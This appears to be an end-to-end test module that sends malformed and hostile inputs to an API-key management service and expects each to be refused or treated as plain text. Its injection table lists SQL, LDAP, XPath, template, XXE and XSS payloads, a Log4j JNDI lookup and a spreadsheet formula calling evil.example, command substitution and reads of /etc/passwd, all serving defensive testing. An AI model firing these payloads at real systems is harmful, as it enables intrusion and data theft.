import type { ApiClient } from '../e2e/api-client.ts';
import { type Attempt, attempts, shownAs } from './attempts.ts';
import { bench } from './bench.ts';
import { malformedRequests } from './malformed-requests.ts';

/** Texts, numbers and bytes that something between the socket and the table might take for more than they are. */
export function input(): void {
  let admin: ApiClient;
  let target: { readonly id: string };

  beforeAll(async () => {
    ({ admin } = bench);
    target = await bench.mint(admin, {});
  }, 60_000);

  const invalid = '400 INVALID';

  /** Searched for, these are text like any other: nothing has them, and nothing fails. */
  const injections: Readonly<Record<string, string>> = {
    SQL: "' OR '1'='1",
    'SQL that drops': "'; DROP TABLE users;--",
    'SQL that waits': "1' AND SLEEP(5)--",
    PartiQL: '" OR "1"="1',
    'an expression of DynamoDB': 'attribute_exists(pk) OR :a = :a',
    'a placeholder of DynamoDB': '#n = :v',
    'an operator of MongoDB': '{"$gt":""}',
    'a wildcard of SQL': '%_%',
    'a wildcard of files': '../*',
    'a regular expression': '.*',
    'a regular expression that takes long': '(a+)+$',
    LDAP: '*)(uid=*))(|(uid=*',
    XPath: "' or count(/*)=1 or ''='",
    'a template': '${7*7}{{7*7}}<%= 7*7 %>#{7*7}',
    'a look-up of Log4j': '${jndi:ldap://evil.example/a}',
    'a command': '$(id);`id`|id',
    'a file': 'file:///etc/passwd',
    'an entity': '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    HTML: '<img src=x onerror=alert(1)>',
    'a formula': '=HYPERLINK("https://evil.example")',
    'a line break and a header': 'x\r\nSet-Cookie: a=b',
    'no character': '\uffff',
    NUL: '\0',
    'text from right to left': '\u202e',
    'a thousand accents': `e${'\u0301'.repeat(200)}`,
  };
  attempts<string>(
    'searched for among keys',
    Object.entries(injections).map(([what, text]): Attempt<string> => [what, text, '200, 0 items']),
    async (text) => {
      const { status, body } = await admin.get(`/api-keys?search=${encodeURIComponent(text)}`);
      return `${status}, ${body.length} items`;
    },
  );
  /** In places with a form of their own, the same texts are refused, or name nothing. */
  const ids: readonly (readonly [path: string, answer: string])[] = [
    ['/users/', '404 NOT_FOUND'],
    ['/roles/', '404 NOT_FOUND'],
    ['/api-keys/', '404 NOT_FOUND'],
  ];
  for (const [path, answer] of ids) {
    attempts<string>(
      `as an id behind ${path}`,
      Object.entries(injections).map(([what, text]): Attempt<string> => [what, text, answer]),
      async (text) => shownAs(await admin.get(path + encodeURIComponent(text))),
    );
  }
  attempts<string>(
    'as the userId of somebody new',
    Object.entries(injections).map(([what, text]): Attempt<string> => [what, text, invalid]),
    async (userId) => shownAs(await admin.post('/users', { userId })),
  );

  /** What nobody sees, or what changes how the rest is seen; joiners that scripts need are not among them. */
  const unseen: Readonly<Record<string, string>> = {
    NUL: '\0',
    'a bell': '\u0007',
    'an escape': '\u001b[2J',
    'a line break': '\n',
    'a carriage return': '\r',
    'a delete': '\u007f',
    'next line (C1)': '\u0085',
    'a control sequence (C1)': '\u009b31m',
    'a soft hyphen': '\u00ad',
    'a zero-width space': '\u200b',
    'a mark from left to right': '\u200e',
    'a mark from right to left': '\u200f',
    'an override from right to left': '\u202e',
    'an isolate': '\u2066',
    'a word joiner': '\u2060',
    'a byte order mark': '\ufeff',
    'a tag character': '\u{e0041}',
    'an interlinear mark': '\ufff9',
  };
  const within = (text: string) => `ad${text}min`;
  const named: Readonly<Record<string, (text: string) => Promise<{ status: number; body: any }>>> = {
    'the name of a key': (text) => admin.post('/api-keys', { name: text }),
    'the new name of a key': (text) => admin.patch(`/api-keys/${target.id}`, { name: text }),
    'the name of somebody': (text) => admin.post('/users', { userId: 'x@example.com', displayName: text }),
    'the metadata of a key': (text) => admin.post('/api-keys', { name: 'x', metadata: { team: text } }),
    'the project that a service asks about': (text) =>
      admin.post('/verify', { key: 'x', project: text, module: 'm', action: 'read' }),
  };
  for (const [place, send] of Object.entries(named)) {
    attempts<string>(
      `unseen in ${place}`,
      Object.entries(unseen)
        // Metadata may have lines.
        .filter(([what]) => !(place.startsWith('the metadata') && what === 'a line break'))
        .map(([what, text]): Attempt<string> => [what, within(text), invalid]),
      async (text) => shownAs(await send(text)),
    );
  }
  attempts<readonly [member: 'method' | 'path' | 'userAgent', text: string]>(
    'unseen in the request that a service was sent',
    (['method', 'path'] as const).flatMap((member) =>
      ['NUL', 'a line break', 'a control sequence (C1)', 'an override from right to left'].map(
        (what): Attempt<readonly ['method' | 'path', string]> => [
          `${member}: ${what}`,
          [member, within(unseen[what] ?? '')],
          invalid,
        ],
      ),
    ),
    async ([member, text]) =>
      shownAs(
        await admin.post('/verify', { key: 'x', request: { method: 'GET', path: '/', [member]: text } }),
      ),
  );

  attempts<string>(
    'a number where a number belongs',
    [
      '0',
      '-1',
      '1.5',
      '1e999',
      '-0',
      'NaN',
      'Infinity',
      '"1"',
      'null',
      '[1]',
      '{}',
      'true',
      '9007199254740993',
      '0x10',
      '01',
    ].map((number) => [number, number, invalid]),
    async (number) =>
      shownAs(await admin.call('POST', `/api-keys/${target.id}/test`, { rawBody: `{"cost":${number}}` })),
  );
  attempts<string>(
    'a limit of a list',
    [
      '0',
      '-1',
      '101',
      '1.5',
      '1e2',
      '٣',
      '３',
      '0x10',
      ' 1',
      '1 ',
      '1,2',
      '',
      'all',
      '99999999999999999999',
      'NaN',
      'true',
    ].map((limit) => [JSON.stringify(limit), limit, invalid]),
    async (limit) => shownAs(await admin.get(`/users?limit=${encodeURIComponent(limit)}`)),
  );
  attempts<string>(
    'a time',
    [
      '2027',
      '2027-06',
      '2027-02-29',
      '2027-13-01',
      '2027-06-31',
      '2027-6-1',
      '20270601',
      '2027-W01-1',
      '01/06/2027',
      '+012027-06-01',
      '2027-06-01T25:00:00Z',
      '2027-06-01T23:59:60Z',
      '2027-06-01T00:00:00',
      '2027-06-01T00:00:00+99:00',
      '2027-06-01 00:00:00Z',
      '-000001-01-01T00:00:00Z',
      '2020-01-01',
      'now',
      'tomorrow',
      '0',
      '1800000000',
      '',
      ' ',
      '2027-06-01\n',
      '٢٠٢٧-٠٦-٠١',
    ].map((time) => [JSON.stringify(time), time, invalid]),
    async (expiresAt) => shownAs(await admin.post('/api-keys', { name: 'timed', expiresAt })),
  );
  attempts<string>(
    'a duration',
    [
      '0d',
      '-1d',
      '1',
      'd',
      '1D',
      '1.5h',
      '1e9s',
      '1 d',
      '1d1h',
      'P1D',
      '1mo',
      '99999999999999999999s',
      '٣d',
      '1d\n',
      '',
    ].map((duration) => [JSON.stringify(duration), duration, invalid]),
    async (expiresIn) => shownAs(await admin.post('/api-keys', { name: 'timed', expiresIn })),
  );
  attempts<string>(
    'an address that a key is bound to',
    [
      '127.0.0.1/33',
      '127.0.0.1/-1',
      '127.0.0.1/',
      '127.0.0.1/8.5',
      '127.1',
      '0x7f.0.0.1',
      '0177.0.0.1',
      '2130706433',
      '127.0.0.256',
      '127.0.0.1 ',
      'localhost',
      '*',
      '0.0.0.0/0/0',
      '::1/129',
      ':::1',
      '[::1]',
      'fe80::1%eth0',
      '1.2.3.4, 5.6.7.8',
      '1.2.3.4-1.2.3.9',
      '',
    ].map((address) => [JSON.stringify(address), address, invalid]),
    async (address) => shownAs(await admin.post('/api-keys', { name: 'bound', allowedIps: [address] })),
  );
  attempts<string>(
    'a scope',
    [
      '**',
      '*:*',
      'database',
      'database:',
      ':read',
      '*:read',
      'database:read ',
      'DATABASE:READ',
      'database:re*',
      'unknown:*',
      'permissions:*:x',
      'database:read,*',
      '',
      'admin',
      '__proto__:x',
      'constructor',
    ].map((scope) => [JSON.stringify(scope), scope, invalid]),
    async (scope) => shownAs(await admin.post('/api-keys', { name: 'scoped', scopes: [scope] })),
  );

  malformedRequests();
}
